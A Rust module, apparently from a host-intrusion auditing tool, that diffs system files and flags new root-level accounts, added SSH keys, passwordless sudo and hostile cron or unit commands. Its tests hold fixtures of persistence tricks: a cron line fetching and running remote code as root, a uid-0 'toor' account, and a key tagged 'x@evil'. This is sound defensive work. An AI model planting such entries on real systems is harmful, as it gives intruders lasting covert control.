//! What a change did to a small text file: the lines it added and removed, and what they mean
//! for the file they are in — keys added to an authorized_keys file (with `ssh-keygen -l`'s
//! fingerprint), accounts added or given uid 0 in /etc/passwd, passwords changed in shadow
//! (never its lines: they hold the hashes), commands that look like an intruder's in cron
//! tables, units and start-up scripts.
use std::collections::HashMap;

use serde::Serialize;

use super::Watch;
use crate::audit::{keys, persistence};

/// Files larger than this are not read for their lines.
pub const MAX_BYTES: u64 = 64 * 1024;
/// Lines shown per change (each cut at `LINE_CHARS`).
const LINES_SHOWN: usize = 20;
const LINE_CHARS: usize = 200;

/// Lines added and removed: the first `LINES_SHOWN`, and how many in all.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Diff {
    pub added: Vec<String>,
    pub removed: Vec<String>,
    pub added_count: usize,
    pub removed_count: usize,
}

impl Diff {
    pub fn is_empty(&self) -> bool {
        self.added_count == 0 && self.removed_count == 0
    }
}

/// The file's lines (`None`: too large or unreadable, or not text worth keeping).
pub fn read(path: &std::path::Path) -> Option<Vec<String>> {
    let meta = std::fs::symlink_metadata(path).ok()?;
    if !meta.is_file() || meta.len() > MAX_BYTES {
        return None;
    }
    let bytes = std::fs::read(path).ok()?;
    Some(
        String::from_utf8_lossy(&bytes)
            .lines()
            .map(str::to_owned)
            .collect(),
    )
}

/// Lines of `new` not in `old` and of `old` not in `new`, counted as multisets, in file order.
pub fn changed(old: &[String], new: &[String]) -> (Vec<String>, Vec<String>) {
    (minus(new, old), minus(old, new))
}

/// The lines of `a` that `b` does not have as many times, in `a`'s order.
fn minus(a: &[String], b: &[String]) -> Vec<String> {
    let mut left: HashMap<&str, usize> = HashMap::new();
    for l in b {
        *left.entry(l).or_default() += 1;
    }
    a.iter()
        .filter(|l| match left.get_mut(l.as_str()) {
            Some(n) if *n > 0 => {
                *n -= 1;
                false
            }
            _ => true,
        })
        .cloned()
        .collect()
}

fn cut(line: &str) -> String {
    if line.chars().count() <= LINE_CHARS {
        return line.to_owned();
    }
    let mut s: String = line.chars().take(LINE_CHARS).collect();
    s.push('…');
    s
}

/// A shadow-like file: its lines hold password hashes and are never shown.
fn secret(path: &std::path::Path) -> bool {
    path.file_name()
        .is_some_and(|n| n == "shadow" || n == "gshadow")
}

/// What a change from `old` to `new` lines means for `path`.
pub struct Meaning {
    pub diff: Diff,
    pub notes: Vec<String>,
    pub uid0_accounts: Vec<String>,
    pub hostile: Vec<String>,
}

pub fn meaning(path: &std::path::Path, watch: Watch, old: &[String], new: &[String]) -> Meaning {
    let (added, removed) = changed(old, new);
    let mut m = Meaning {
        diff: Diff {
            added_count: added.len(),
            removed_count: removed.len(),
            ..Diff::default()
        },
        notes: Vec::new(),
        uid0_accounts: Vec::new(),
        hostile: Vec::new(),
    };
    let name = path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    if secret(path) {
        m.notes = entries_changed(&added, &removed, "password or account entry");
        return m;
    }
    m.diff.added = added.iter().take(LINES_SHOWN).map(|l| cut(l)).collect();
    m.diff.removed = removed.iter().take(LINES_SHOWN).map(|l| cut(l)).collect();
    match watch {
        Watch::Accounts if name == "passwd" => accounts(&added, &removed, &mut m),
        Watch::Accounts => m.notes = entries_changed(&added, &removed, "group"),
        Watch::AuthorizedKeys => authorized_keys(&added, &removed, &mut m),
        _ => {}
    }
    let commands: Vec<&String> = match watch {
        Watch::Cron => added
            .iter()
            .filter(|l| !persistence::cron_entries(l).is_empty())
            .collect(),
        Watch::Systemd => added
            .iter()
            .filter(|l| !persistence::unit_execs(l).is_empty())
            .collect(),
        Watch::Init
        | Watch::ShellStartup
        | Watch::Loader
        | Watch::Sudoers
        | Watch::Pam
        | Watch::Custom => added.iter().collect(),
        _ => Vec::new(),
    };
    m.hostile = persistence::hostile_lines(commands.into_iter().map(String::as_str))
        .iter()
        .map(|l| cut(l))
        .collect();
    if watch == Watch::Sudoers {
        for l in &added {
            if !crate::audit::files::nopasswd_all(l).is_empty() {
                m.notes.push(cut(&format!(
                    "sudo without password for everything: {}",
                    l.trim()
                )));
            }
        }
    }
    m
}

/// `name:…` entries added, removed or changed, by their first field.
fn entries_changed(added: &[String], removed: &[String], what: &str) -> Vec<String> {
    let key = |l: &String| l.split(':').next().unwrap_or("").to_owned();
    let added_keys: Vec<String> = added.iter().map(key).collect();
    let removed_keys: Vec<String> = removed.iter().map(key).collect();
    let mut notes = Vec::new();
    for k in &added_keys {
        if removed_keys.contains(k) {
            notes.push(format!("{what} changed: {k}"));
        } else {
            notes.push(format!("{what} added: {k}"));
        }
    }
    for k in removed_keys.iter().filter(|k| !added_keys.contains(k)) {
        notes.push(format!("{what} removed: {k}"));
    }
    notes.truncate(LINES_SHOWN);
    notes
}

/// passwd lines: `name:x:uid:gid:gecos:home:shell`.
fn accounts(added: &[String], removed: &[String], m: &mut Meaning) {
    let fields = |l: &String| -> Option<(String, u32, String, String)> {
        let f: Vec<&str> = l.split(':').collect();
        (f.len() >= 7).then(|| {
            (
                f[0].to_owned(),
                f[2].parse().unwrap_or(u32::MAX),
                f[5].to_owned(),
                f[6].to_owned(),
            )
        })
    };
    let before: Vec<_> = removed.iter().filter_map(fields).collect();
    let after: Vec<_> = added.iter().filter_map(fields).collect();
    for (name, uid, home, shell) in &after {
        match before.iter().find(|(n, ..)| n == name) {
            Some((_, old_uid, ..)) if old_uid != uid => m
                .notes
                .push(format!("account changed: {name} (uid {old_uid} → {uid})")),
            Some(_) => m.notes.push(format!("account changed: {name}")),
            None => m.notes.push(format!(
                "account added: {name} (uid {uid}, home {home}, shell {shell})"
            )),
        }
        let was_zero = before.iter().any(|(n, u, ..)| n == name && *u == 0);
        if *uid == 0 && name != "root" && !was_zero {
            m.uid0_accounts.push(name.clone());
        }
    }
    for (name, ..) in before
        .iter()
        .filter(|(n, ..)| !after.iter().any(|a| &a.0 == n))
    {
        m.notes.push(format!("account removed: {name}"));
    }
    m.notes.truncate(LINES_SHOWN);
}

fn authorized_keys(added: &[String], removed: &[String], m: &mut Meaning) {
    let describe = |l: &String| match keys::parse_line(0, l) {
        Ok(Some(k)) => Some(format!(
            "{} {} {}{}",
            k.key_type,
            k.fingerprint,
            k.comment,
            k.options
                .as_deref()
                .map(|o| format!(" (options {o})"))
                .unwrap_or_default()
        )),
        Ok(None) => None,
        Err(_) => Some(format!("not a key: {}", cut(l))),
    };
    for l in added {
        if let Some(d) = describe(l) {
            m.notes.push(cut(&format!("key added: {}", d.trim_end())));
        }
    }
    for l in removed {
        if let Some(d) = describe(l) {
            m.notes.push(cut(&format!("key removed: {}", d.trim_end())));
        }
    }
    m.notes.truncate(LINES_SHOWN);
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;

    fn v(lines: &[&str]) -> Vec<String> {
        lines.iter().map(|s| (*s).to_owned()).collect()
    }

    #[test]
    fn changed_counts_repeated_lines() {
        let (a, r) = changed(&v(&["a", "b", "b"]), &v(&["b", "c", "b", "b"]));
        assert_eq!(a, v(&["c", "b"]));
        assert!(r.contains(&"a".to_owned()) && r.len() == 1);
    }

    #[test]
    fn a_uid_0_account_added_or_given() {
        let old = v(&[
            "root:x:0:0:root:/root:/bin/bash",
            "bob:x:1000:1000::/home/bob:/bin/sh",
        ]);
        let new = v(&[
            "root:x:0:0:root:/root:/bin/bash",
            "bob:x:0:1000::/home/bob:/bin/sh",
            "toor:x:0:0::/root:/bin/bash",
        ]);
        let m = meaning(Path::new("/etc/passwd"), Watch::Accounts, &old, &new);
        assert_eq!(m.uid0_accounts, v(&["bob", "toor"]));
        assert!(m
            .notes
            .contains(&"account changed: bob (uid 1000 → 0)".to_owned()));
        assert!(m.notes[1].starts_with("account added: toor (uid 0"));
    }

    #[test]
    fn shadow_lines_are_never_shown() {
        let m = meaning(
            Path::new("/etc/shadow"),
            Watch::Accounts,
            &v(&["bob:$6$old:19000:0:99999:7:::"]),
            &v(&["bob:$6$new:19001:0:99999:7:::"]),
        );
        assert!(m.diff.added.is_empty() && m.diff.removed.is_empty());
        assert_eq!(m.diff.added_count, 1);
        assert_eq!(m.notes, v(&["password or account entry changed: bob"]));
    }

    #[test]
    fn keys_are_named_by_fingerprint() {
        let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x@evil";
        let m = meaning(
            Path::new("/home/a/.ssh/authorized_keys"),
            Watch::AuthorizedKeys,
            &[],
            &v(&[key, "garbage line"]),
        );
        assert!(
            m.notes[0].starts_with("key added: ssh-ed25519 SHA256:"),
            "{:?}",
            m.notes
        );
        assert!(m.notes[0].ends_with("x@evil"));
        assert!(m.notes[1].starts_with("key added: not a key"));
    }

    #[test]
    fn hostile_cron_lines_are_flagged() {
        let m = meaning(
            Path::new("/etc/cron.d/x"),
            Watch::Cron,
            &[],
            &v(&["# comment", "* * * * * root curl -s http://x/a | sh"]),
        );
        assert_eq!(m.hostile.len(), 1, "{:?}", m.hostile);
        assert_eq!(m.diff.added_count, 2);
    }
}
